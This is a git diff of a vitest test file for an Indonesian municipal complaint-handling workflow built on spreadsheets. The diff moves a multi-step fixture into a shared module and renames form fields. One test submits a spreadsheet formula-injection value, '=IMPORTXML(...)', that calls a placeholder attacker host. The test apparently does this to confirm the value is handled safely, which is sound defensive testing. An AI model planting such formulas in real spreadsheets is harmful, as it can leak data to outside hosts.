@@ -6,54 +6,7 @@ import { describe, expect, it } from 'vitest';
 import { ACTIONS, WAITING_FOR } from '../../core/sop.js';
 import { STATUS_LABEL } from '../../sheets-schema/index.js';
 import { dayFromIso, wibInstant } from '../../core/time.js';
-import { ALL_PERSYARATAN, history, office, openAction, register, STAFF, submit, type Office, type Role } from './fixture.js';
-
-interface Step {
-  readonly role: Role;
-  readonly aksi: keyof typeof ACTIONS;
-  readonly masukan: Record<string, unknown>;
-  readonly status: keyof typeof STATUS_LABEL;
-  /** The day it happens (WIB, 14:00); the start day otherwise. */
-  readonly on?: string;
-}
-
-const HEAVY_PATH: readonly Step[] = [
-  { role: 'petugas', aksi: 'periksa', masukan: { persyaratan: ALL_PERSYARATAN }, status: 'DIPERIKSA' },
-  { role: 'subkoordinator', aksi: 'nilai', masukan: { kategori: 'berat', alasan: 'Menyangkut izin lingkungan; perlu tim teknis.' }, status: 'DILAPORKAN_PIMPINAN' },
-  { role: 'kepala', aksi: 'disposisi', masukan: { disposisi: 'Koordinator segera rapatkan dengan DLH.' }, status: 'DISPOSISI_KOORDINATOR' },
-  { role: 'koordinator', aksi: 'perintah_undangan', masukan: { instruksi: 'Undang DLH dan pemilik bengkel.' }, status: 'UNDANGAN_DISIAPKAN' },
-  {
-    role: 'subkoordinator',
-    aksi: 'kirim_undangan',
-    masukan: {
-      tanggal: '2026-11-26',
-      jam: '09:00',
-      tempat: 'Ruang Rapat DPMPTSP',
-      agenda: 'Pembahasan pengaduan kebisingan bengkel las',
-      undangan: [
-        { nama: 'Kepala DLH', instansi: 'DLH Kota Payakumbuh', kelompok: 'opd_terkait' },
-        { nama: 'Pemilik Bengkel Las Maju Jaya', instansi: '', kelompok: 'pemilik_usaha' },
-      ],
-    },
-    status: 'RAPAT_DIJADWALKAN',
-  },
-  {
-    role: 'subkoordinator',
-    aksi: 'catat_hasil_rapat',
-    on: '2026-11-26',
-    masukan: {
-      hadir: [{ nama: 'Drs. Zulkifli', instansi: 'DLH' }],
-      pembahasan: 'Bengkel beroperasi melewati jam yang diizinkan.',
-      kesimpulan: 'Pemilik membatasi jam kerja sampai pukul 21.00.',
-      tindak_lanjut: [{ uraian: 'Pemantauan', pelaksana: 'DLH', tenggat: '2026-12-15' }],
-    },
-    status: 'DRAFT_BA',
-  },
-  { role: 'koordinator', aksi: 'paraf_koordinator', masukan: {}, status: 'PARAF_KOORDINATOR', on: '2026-11-27' },
-  { role: 'sekretaris', aksi: 'paraf_sekretaris', masukan: { koreksi: 'Redaksi kesimpulan diperbaiki.' }, status: 'PARAF_SEKRETARIS', on: '2026-11-27' },
-  { role: 'kepala', aksi: 'tandatangani', masukan: {}, status: 'DITANDATANGANI', on: '2026-11-30' },
-  { role: 'petugas', aksi: 'serahkan', masukan: { cara: 'langsung', catatan: 'Diterima langsung oleh pelapor.' }, status: 'SELESAI', on: '2026-12-01' },
-];
+import { ALL_PERSYARATAN, HEAVY_PATH, history, office, openAction, register, STAFF, submit, type Office, type Step } from './fixture.js';
 
 function take(o: Office, nomor: string, step: Step): Record<string, unknown> {
   if (step.on) o.s.setNow(wibInstant(dayFromIso(step.on), 14, 0));
@@ -89,7 +42,7 @@ describe('the other roads of the procedure, through the menus', () => {
   it('a rescheduled meeting, a returned draft and its revision, then a complaint closed as outside the office', async () => {
     const o = await office();
     submit(o);
-    submit(o, { 'Nama lengkap': 'Pelapor Kedua' });
+    submit(o, { nama_pelapor: 'Pelapor Kedua' });
     const [first, second] = register(o).map((r) => String(r['Nomor Registrasi']));
     const steps: Step[] = [
       ...HEAVY_PATH.slice(0, 5),
@@ -115,7 +68,7 @@ describe('the other roads of the procedure, through the menus', () => {
 describe('a complaint from the Form to the delivered Berita Acara, through the menus', () => {
   it('registers once, walks all twelve SOP steps, and mails whoever must act next', async () => {
     const o = await office();
-    const ev = submit(o, { 'Isi pengaduan': '=IMPORTXML("http://evil.example/x", "//a")' });
+    const ev = submit(o, { isi_pengaduan: '=IMPORTXML("http://evil.example/x", "//a")' });
     o.s.call('onFormSubmit', ev); // the trigger fires twice
     const rows = register(o);
     expect(rows).toHaveLength(1);
